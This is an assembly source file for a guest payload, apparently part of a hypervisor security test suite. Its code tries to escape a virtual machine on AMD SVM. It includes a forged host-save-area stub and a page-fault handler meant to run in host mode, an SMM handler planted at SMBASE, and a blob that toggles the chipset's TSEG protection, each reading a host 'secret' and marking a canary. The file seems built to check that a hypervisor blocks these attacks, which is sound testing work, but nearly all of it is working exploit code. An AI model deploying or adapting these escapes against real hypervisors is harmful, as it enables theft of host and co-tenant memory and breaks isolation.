/* HOSTILE.EFI's machine code (boot/guest/hostile/hostile.h):
 *   - a #GP handler that counts the fault and skips hostile_gp_skip bytes (the refused
 *     instruction's length, set before each attempt);
 *   - the #PF handler the host-state attack hopes the HOST takes: it reads the secret,
 *     marks the canary, makes its page present again and returns;
 *   - the code a forged host-save area sends the host to (the VM_HSAVE_PA attack): it reads
 *     the secret, marks the canary, puts VM_HSAVE_PA back and goes on as the real host would
 *     have after its VMRUN, with the guest's registers intact;
 *   - an SMM handler, real-mode code planted at the default SMBASE entry 0x38000;
 *   - a position-independent blob, copied to a low page, that turns the chipset's TSEG on
 *     and off again without touching memory in between. */

#define HSAVE_GDTR_LIMIT 0x464
#define HSAVE_GDTR_BASE 0x468
#define HSAVE_IDTR_LIMIT 0x484
#define HSAVE_IDTR_BASE 0x488
#define HSAVE_CR3 0x550
#define HSAVE_RIP 0x578
#define HSAVE_RSP 0x5D8
#define HSAVE_RAX 0x5F8
#define SMM_ENTRY 0x38000

    .text
    .globl hostile_gp_handler
    .hidden hostile_gp_handler
hostile_gp_handler:
    add $8, %rsp                    /* the error code */
    push %rax
    mov hostile_gp_skip(%rip), %rax
    add %rax, 8(%rsp)               /* RIP past the refused instruction */
    pop %rax
    lock incq hostile_gp_count(%rip)
    iretq

    .globl hostile_nmi_handler
    .hidden hostile_nmi_handler
hostile_nmi_handler:                /* NMI: counted, nothing else */
    lock incq hostile_nmi_count(%rip)
    iretq

    .globl hostile_ud_handler
    .hidden hostile_ud_handler
hostile_ud_handler:                 /* #UD: no error code */
    push %rax
    mov hostile_gp_skip(%rip), %rax
    add %rax, 8(%rsp)
    pop %rax
    lock incq hostile_gp_count(%rip)
    iretq

    .globl hostile_pf_handler
    .hidden hostile_pf_handler
hostile_pf_handler:
    push %rax
    mov %cr2, %rax
    and $-4096, %rax
    cmp hostile_pf_page(%rip), %rax
    jne 9f
    push %rcx
    mov hostile_pf_target(%rip), %rcx
    test %rcx, %rcx
    jz 1f
    mov (%rcx), %rax
    mov %rax, hostile_pf_secret(%rip)
    mov hostile_pf_marker(%rip), %rax
    mov %rax, 8(%rcx)
1:  mov hostile_pf_pte(%rip), %rcx
    mov hostile_pf_pte_value(%rip), %rax
    mov %rax, (%rcx)                /* the page present again */
    mov hostile_pf_page(%rip), %rax
    invlpg (%rax)
    mov %rsp, hostile_pf_rsp(%rip)  /* whose stack: the host's is in its region */
    lock incq hostile_pf_ran(%rip)
    pop %rcx
    pop %rax
    add $8, %rsp                    /* the error code */
    iretq
9:  pop %rax
    jmp *hostile_pf_old(%rip)       /* not ours: the firmware's handler */

    .globl hostile_hsave_stub
    .hidden hostile_hsave_stub
hostile_hsave_stub:
    /* Host mode, on our stack, after a #VMEXIT that loaded our host-save area. Every
     * general register but RAX and RSP is still the guest's, which the real host will save. */
    push %rcx
    push %rdx
    mov hostile_stub_target(%rip), %rcx
    test %rcx, %rcx
    jz 1f
    mov (%rcx), %rdx
    mov %rdx, hostile_stub_secret(%rip)
    mov hostile_stub_marker(%rip), %rdx
    mov %rdx, 8(%rcx)
1:  mov $0xC0010117, %ecx           /* VM_HSAVE_PA back to the host's own */
    mov hostile_stub_orig_hsave(%rip), %rax
    mov %rax, %rdx
    shr $32, %rdx
    wrmsr
    mov hostile_stub_orig_hsave(%rip), %rcx
    mov HSAVE_RIP(%rcx), %rdx
    mov %rdx, hostile_stub_host_rip(%rip)
    mov HSAVE_RSP(%rcx), %rdx
    mov %rdx, hostile_stub_host_rsp(%rip)
    sub $16, %rsp                   /* the host's own GDT and IDT, as its VMRUN saved them */
    mov HSAVE_GDTR_LIMIT(%rcx), %edx
    mov %dx, 6(%rsp)
    mov HSAVE_GDTR_BASE(%rcx), %rdx
    mov %rdx, 8(%rsp)
    lgdt 6(%rsp)
    mov HSAVE_IDTR_LIMIT(%rcx), %edx
    mov %dx, 6(%rsp)
    mov HSAVE_IDTR_BASE(%rcx), %rdx
    mov %rdx, 8(%rsp)
    lidt 6(%rsp)
    add $16, %rsp
    lock incq hostile_stub_ran(%rip)
    mov HSAVE_RAX(%rcx), %rax       /* the host's RAX: its VMCB's address */
    mov HSAVE_CR3(%rcx), %rdx
    mov %rdx, %cr3
    pop %rdx
    pop %rcx
    mov hostile_stub_host_rsp(%rip), %rsp
    jmp *hostile_stub_host_rip(%rip) /* just after the host's VMRUN */

    /* hostile_apic_load(code, apic): calls code with RAX = apic; returns EAX (SysV). */
    .globl hostile_apic_load
    .hidden hostile_apic_load
hostile_apic_load:
    push %rbx
    mov %rsi, %rax
    call *%rdi
    pop %rbx
    ret

    /* The SMM handler: copied to SMM_ENTRY, entered in SMM's real-mode-like state (CS base
     * SMBASE, IP 0x8000, data segments base 0 and limit 4 GiB). 32-bit addresses. */
    .globl hostile_smm_start
    .globl hostile_smm_data
    .globl hostile_smm_end
    .hidden hostile_smm_start
    .hidden hostile_smm_data
    .hidden hostile_smm_end
    .code16
hostile_smm_start:
    mov %cs, %ax                    /* CS = SMBASE >> 4: our own stack in the planted page */
    mov %ax, %ss
    mov $0x8F00, %sp
    lidtl %cs:(0x8000 + (smm_idtr - hostile_smm_start)) /* any exception: to smm_recover */
    movl $(SMM_ENTRY + (hostile_smm_data - hostile_smm_start)), %esi
    lock incl (%esi)
    /* SMM entry cleared EFER, SVME too: a #VMEXIT from here would come back to a VMRUN that
     * fails. A WRMSR of EFER (intercepted) has the hypervisor set SVME again underneath. */
    movl 32(%esi), %eax
    testl %eax, %eax
    jz 0f
    xorl %edx, %edx
    movl $0xC0000080, %ecx
    wrmsr
0:
    movl 24(%esi), %ebx             /* a page of the attacker's */
    testl %ebx, %ebx
    jz 1f
    movl $0x21494d53, (%ebx)        /* "SMI!" */
1:  movl 4(%esi), %ebx              /* the secret's page: the nested tables may refuse it (#GP) */
    testl %ebx, %ebx
    jz smm_recover
    movl (%ebx), %eax
    movl %eax, 8(%esi)
    movl 4(%ebx), %eax
    movl %eax, 12(%esi)
    movl 16(%esi), %eax             /* the marker into the canary */
    movl %eax, 8(%ebx)
    movl 20(%esi), %eax
    movl %eax, 12(%ebx)
smm_recover:
    rsm
smm_fault:                          /* real-mode frame: IP, CS, FLAGS */
    push %bp
    mov %sp, %bp
    movw $(0x8000 + (smm_recover - hostile_smm_start)), 2(%bp)
    pop %bp
    lock incl 28(%esi)              /* faults, for the attacker */
    iret
    .balign 4
smm_ivt:
    .rept 32
    .word 0x8000 + (smm_fault - hostile_smm_start), 0x3000
    .endr
smm_idtr:
    .word 32 * 4 - 1
    .long SMM_ENTRY + (smm_ivt - hostile_smm_start)
    .balign 8
hostile_smm_data:
    .long 0, 0                      /* ran, target */
    .quad 0, 0                      /* secret, marker */
    .long 0, 0                      /* mine, faults */
    .long 0, 0                      /* efer (the guest's view, written back), reserved */
hostile_smm_end:
    .code64

    /* The TSEG blob: no memory access between the write and the restore. */
    .globl hostile_blob_start
    .globl hostile_blob_cfg
    .globl hostile_blob_mmio
    .globl hostile_blob_end
    .hidden hostile_blob_start
    .hidden hostile_blob_cfg
    .hidden hostile_blob_mmio
    .hidden hostile_blob_end
    .balign 16
hostile_blob_start:
hostile_blob_cfg:                   /* edi = CF8 value, esi = new dword, edx = old; returns read-back */
    mov %edx, %r8d
    mov %edi, %eax
    mov $0xcf8, %dx
    out %eax, (%dx)
    mov $0xcfc, %dx
    mov %esi, %eax
    out %eax, (%dx)
    in (%dx), %eax
    mov %eax, %r9d
    mov $0xcf8, %dx
    mov %edi, %eax
    out %eax, (%dx)
    mov $0xcfc, %dx
    mov %r8d, %eax
    out %eax, (%dx)
    mov %r9d, %eax
    ret
hostile_blob_mmio:                  /* rdi = address, esi = new dword, edx = old; returns read-back */
    mov %esi, (%rdi)
    mov (%rdi), %eax
    mov %edx, (%rdi)
    ret
hostile_blob_end:

    .data
    .balign 8
#define VAR(name) .globl name; .hidden name; name: .quad 0
VAR(hostile_gp_count)
VAR(hostile_nmi_count)
    .globl hostile_gp_skip
    .hidden hostile_gp_skip
hostile_gp_skip:
    .quad 2
VAR(hostile_pf_page)
VAR(hostile_pf_target)
VAR(hostile_pf_marker)
VAR(hostile_pf_pte)
VAR(hostile_pf_pte_value)
VAR(hostile_pf_old)
VAR(hostile_pf_secret)
VAR(hostile_pf_ran)
VAR(hostile_pf_rsp)
VAR(hostile_stub_target)
VAR(hostile_stub_marker)
VAR(hostile_stub_orig_hsave)
VAR(hostile_stub_secret)
VAR(hostile_stub_ran)
VAR(hostile_stub_host_rip)
VAR(hostile_stub_host_rsp)

    .section .note.GNU-stack, "", @progbits
